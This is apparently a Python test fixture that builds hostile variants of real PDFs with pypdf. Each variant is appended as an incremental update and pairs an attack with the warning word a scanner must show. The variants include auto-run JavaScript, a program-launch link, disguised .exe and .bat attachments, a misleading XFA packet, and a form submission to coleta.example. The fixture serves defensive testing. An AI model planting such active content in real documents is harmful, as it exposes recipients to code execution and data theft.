"""Hostile variants of a real PDF, built with pypdf (imported by name by the tests).

Each builder takes a real PDF (a requerimento from ``lavra prefill`` or a document just
issued) and adds one kind of active content the way an attacker would: as an
incremental update appended to the file, so that its form fields, metadata and (for an
issued document) the signed bytes stay exactly as they were.
"""

from __future__ import annotations

import io
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name("/" + key)] = value  # type: ignore[assignment]
    return action


def _link(action: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 60, 30)]),
            _name("/Border"): ArrayObject([NumberObject(0)] * 3),
            _name("/A"): action,
        }
    )


def _edit(pdf: bytes, change: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter(io.BytesIO(pdf), incremental=True)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def javascript_open_action(pdf: bytes) -> bytes:
    """Runs JavaScript as soon as the file is opened (/OpenAction)."""

    def change(writer: PdfWriter) -> None:
        js = _action("/JavaScript", JS=TextStringObject("app.alert('oi');"))
        writer.root_object[_name("/OpenAction")] = writer._add_object(js)

    return _edit(pdf, change)


def javascript_name_tree(pdf: bytes) -> bytes:
    """Document-level JavaScript in the /Names /JavaScript tree (pypdf's add_open_action)."""
    from pypdf.actions import JavaScript

    return _edit(
        pdf, lambda writer: writer.add_open_action(JavaScript("this.print({bUI: false});"))
    )


def launch_action(pdf: bytes) -> bytes:
    """A link on the first page that launches a program."""

    def change(writer: PdfWriter) -> None:
        launch = _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\calc.exe"))
        writer.add_annotation(0, _link(launch))

    return _edit(pdf, change)


def embedded_file(pdf: bytes) -> bytes:
    """A file embedded in the document (/Names /EmbeddedFiles), pypdf's add_attachment."""
    return _edit(pdf, lambda writer: writer.add_attachment("fatura.exe", b"MZ\x90\x00" * 64))


def file_attachment_annotation(pdf: bytes) -> bytes:
    """A /FileAttachment annotation on the first page carrying a file."""

    def change(writer: PdfWriter) -> None:
        content = DecodedStreamObject()
        content.set_data(b"@echo off\r\n")
        content[_name("/Type")] = _name("/EmbeddedFile")
        spec = DictionaryObject(
            {
                _name("/Type"): _name("/Filespec"),
                _name("/F"): TextStringObject("leia.bat"),
                _name("/EF"): DictionaryObject({_name("/F"): writer._add_object(content)}),
            }
        )
        annotation = DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/FileAttachment"),
                _name("/Rect"): ArrayObject([FloatObject(v) for v in (20, 20, 40, 40)]),
                _name("/FS"): spec,
            }
        )
        writer.add_annotation(0, annotation)

    return _edit(pdf, change)


def xfa_form(pdf: bytes) -> bytes:
    """An XFA packet in the AcroForm, showing other data than the fields hold."""

    def change(writer: PdfWriter) -> None:
        packet = DecodedStreamObject()
        packet.set_data(
            b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><xfa:datasets '
            b'xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data>'
            b"<razao_social>Outra Empresa</razao_social></xfa:data></xfa:datasets></xdp:xdp>"
        )
        form = writer.root_object["/AcroForm"].get_object()
        form[_name("/XFA")] = writer._add_object(packet)

    return _edit(pdf, change)


def submit_form(pdf: bytes) -> bytes:
    """A link that sends the form's data to an outside address."""

    def change(writer: PdfWriter) -> None:
        target = DictionaryObject(
            {_name("/FS"): _name("/URL"), _name("/F"): TextStringObject("https://coleta.example/")}
        )
        writer.add_annotation(0, _link(_action("/SubmitForm", F=target)))

    return _edit(pdf, change)


def uri_link(pdf: bytes) -> bytes:
    """A plain link to an outside address (noted, not alarming)."""

    def change(writer: PdfWriter) -> None:
        uri = _action("/URI", URI=TextStringObject("https://phishing.example/entrar"))
        writer.add_annotation(0, _link(uri))

    return _edit(pdf, change)


def first_field_javascript(pdf: bytes) -> bytes:
    """JavaScript that runs when a form field is left (/AA /Bl on a widget)."""

    def change(writer: PdfWriter) -> None:
        page = writer.pages[0]
        widget = next(
            a.get_object()
            for a in page.get("/Annots", [])
            if a.get_object().get("/Subtype") == "/Widget"
        )
        widget[_name("/AA")] = DictionaryObject(
            {_name("/Bl"): _action("/JavaScript", JS=TextStringObject("event.value = 1;"))}
        )

    return _edit(pdf, change)


#: Each hostile variant, with a word the warning about it must contain.
VARIANTS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "javascript-open-action": (javascript_open_action, "JavaScript"),
    "javascript-name-tree": (javascript_name_tree, "JavaScript"),
    "launch": (launch_action, "abre outro programa"),
    "embedded-file": (embedded_file, "arquivos embutidos"),
    "file-attachment": (file_attachment_annotation, "anexados a anotações"),
    "xfa": (xfa_form, "XFA"),
    "submit-form": (submit_form, "envia os dados do formulário"),
    "uri": (uri_link, "phishing.example"),
    "field-javascript": (first_field_javascript, "JavaScript"),
}


def reread(pdf: bytes) -> PdfReader:
    return PdfReader(io.BytesIO(pdf))
